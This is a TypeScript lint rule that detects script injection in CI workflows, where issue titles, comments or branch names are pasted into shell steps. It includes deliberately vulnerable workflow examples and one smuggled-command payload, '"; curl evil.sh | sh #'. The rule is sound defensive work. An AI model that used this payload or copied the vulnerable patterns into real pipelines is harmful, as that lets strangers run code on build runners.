import { isForeignOutput } from '../../../knowledge/pipelines/foreign-outputs.ts';
import { isForeignText } from '../../../knowledge/pipelines/foreign-text.ts';
import {
  type Expression,
  type Pipeline,
  type PipelineJob,
  type PipelineStep,
  variableOf,
} from '../../../model/pipeline.ts';
import { declaredAt } from '../../../model/place.ts';
import { held, violated } from '../../outcome.ts';
import { bad, defineRule, oneHeld } from '../../rule.ts';
import { foreignTriggers, isGuarded, privilegedTriggers } from './foreign-triggers.ts';

const workflow = <const T extends string>(event: string, run: T) =>
  `on: ${event}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: ${run}\n` as const;

export const pastesForeignText = defineRule({
  id: 'build/safe-triggers/pastes-foreign-text',
  subject: 'pipeline',
  severity: 'high',
  title: 'Text that strangers write is pasted into a script',
  why: 'The expression is replaced before the shell reads the line, so a title like `"; curl evil.sh | sh #` is a command.',
  remedy: 'Hand the text over in a variable: `env: {TITLE: ${{ … }}}` on the step and `"$TITLE"` in the script.',
  references: [
    {
      title: 'GitHub Security Lab: untrusted input',
      url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    },
    { title: 'CWE-94: code injection', url: 'https://cwe.mitre.org/data/definitions/94.html' },
  ],
  examples: {
    bad: [
      bad({ '.github/workflows/greet.yml': workflow('issues', 'echo "«${{ github.event.issue.title }}»"') }),
      bad({ 'azure-pipelines.yml': 'pr: [main]\nsteps:\n  - script: echo «$(Build.SourceVersionMessage)»\n' }),
      bad({ '.github/workflows/greet.yml': workflow('pull_request', "echo '«${{ github.head_ref }}»'") }),
      bad({
        '.github/workflows/greet.yml':
          'on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/github-script@v8\n        with:\n          script: |\n            const text = `«${{ github.event.comment.body }}»`\n',
      }),
      bad({
        '.github/workflows/greet.yml':
          'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    env:\n      TITLE: ${{ github.event.issue.title }}\n    steps:\n      - run: echo "«${{ env.TITLE }}»"\n',
      }),
      bad({ '.github/workflows/greet.yml': workflow('issues', 'echo "«${{ toJSON(github.event.issue) }}»"') }),
      bad({ '.github/workflows/greet.yml': workflow('issues', `echo "«\${{ github.event['issue']['title'] }}»"`) }),
      bad({
        '.github/workflows/greet.yml':
          'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: azure/cli@v2\n        with:\n          inlineScript: az note "«${{ github.event.issue.body }}»"\n',
      }),
      bad({
        '.github/workflows/lint.yml':
          'on: pull_request\njobs:\n  lint:\n    runs-on: ubuntu-24.04\n    steps:\n      - id: changed\n        uses: tj-actions/changed-files@v35\n      - run: lint «${{ steps.changed.outputs.all_changed_files }}»\n',
      }),
      bad({
        '.github/workflows/lint.yml':
          'on: pull_request\njobs:\n  lint:\n    runs-on: ubuntu-24.04\n    steps:\n      - id: filter\n        uses: dorny/paths-filter@v3\n        with:\n          list-files: csv\n      - run: lint «${{ steps.filter.outputs.all_files }}»\n',
      }),
    ],
    good: [
      // escaped since version 41
      {
        '.github/workflows/lint.yml':
          'on: pull_request\njobs:\n  lint:\n    runs-on: ubuntu-24.04\n    steps:\n      - id: changed\n        uses: tj-actions/changed-files@v47\n      - run: lint ${{ steps.changed.outputs.all_changed_files }}\n',
      },
      {
        '.github/workflows/greet.yml':
          'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
      },
      { '.github/workflows/greet.yml': workflow('pull_request', 'echo ${{ github.event.pull_request.number }}') },
    ],
    silent: [{ '.github/workflows/greet.yml': workflow('workflow_dispatch', 'echo hello') }],
  },
  check: oneHeld(function* (pipeline) {
    const [foreign] = foreignTriggers(pipeline);
    const privileged = privilegedTriggers(pipeline).length > 0;
    for (const { job, step, expression } of pastes(pipeline)) {
      const origin = declaredAt(expression.place);
      const milder = !privileged || isGuarded(pipeline, job, step);
      yield violated(
        origin,
        `${expression.text} is written by whoever raises the event and becomes part of a script`,
        milder ? { severity: 'medium' } : {},
      );
    }
    if (foreign) yield held(declaredAt(foreign.place));
  }),
});

type Paste = {
  readonly job: PipelineJob;
  readonly step: PipelineStep;
  readonly expression: Expression;
};

function* pastes(pipeline: Pipeline): Generator<Paste> {
  for (const job of pipeline.jobs) {
    for (const step of job.steps) {
      for (const expression of scriptExpressions(step)) {
        // a variable that is pasted, not read, is the text it holds
        const held = variableOf(expression, [step.env, job.env, pipeline.env])?.expressions ?? [];
        const free = [expression, ...held].some(
          ({ text }) => isChosenOutput(pipeline, job, text) || (isForeignText(text) && !isNarrowed(pipeline, text)),
        );
        if (free) yield { job, step, expression };
      }
    }
  }
}

/** Whether a step before gives out, by this name, what whoever raised the event chose. */
const isChosenOutput = (pipeline: Pipeline, { steps }: PipelineJob, expression: string): boolean => {
  const [, id, output] = /^steps\.([\w-]+)\.outputs\.([\w-]+)$/.exec(expression) ?? [];
  const step = id === undefined ? undefined : steps.find((each) => each.id === id);
  return step !== undefined && foreignTriggers(pipeline).length > 0 && isForeignOutput(step, output ?? '');
};

/** `branches:` of workflow_run lets through the names it lists and no others. */
const isNarrowed = ({ triggers }: Pipeline, expression: string): boolean =>
  /workflow_run\.head_branch$/.test(expression) &&
  triggers.some(
    ({ event, branches }) =>
      event === 'workflow_run' && branches.length > 0 && !branches.some((name) => /[*?[]/.test(name)),
  );

/** Actions that run a text they are given, and the input it is in. */
const RUNNERS: { readonly [action: string]: RegExp } = {
  'actions/github-script': /^script$/,
  'azure/cli': /^inlineScript$/i,
  'azure/powershell': /^inlineScript$/i,
  'appleboy/ssh-action': /^script$/,
  'nick-fields/retry': /^command$/,
  'nick-invision/retry': /^command$/,
};

const scriptExpressions = (step: PipelineStep): readonly Expression[] => {
  const action = step.uses?.name.toLowerCase() ?? '';
  const input = Object.hasOwn(RUNNERS, action) ? RUNNERS[action] : undefined;
  const script = input && step.with.find(({ name }) => input.test(name));
  return [...(step.run?.expressions ?? []), ...(script?.value.expressions ?? [])];
};
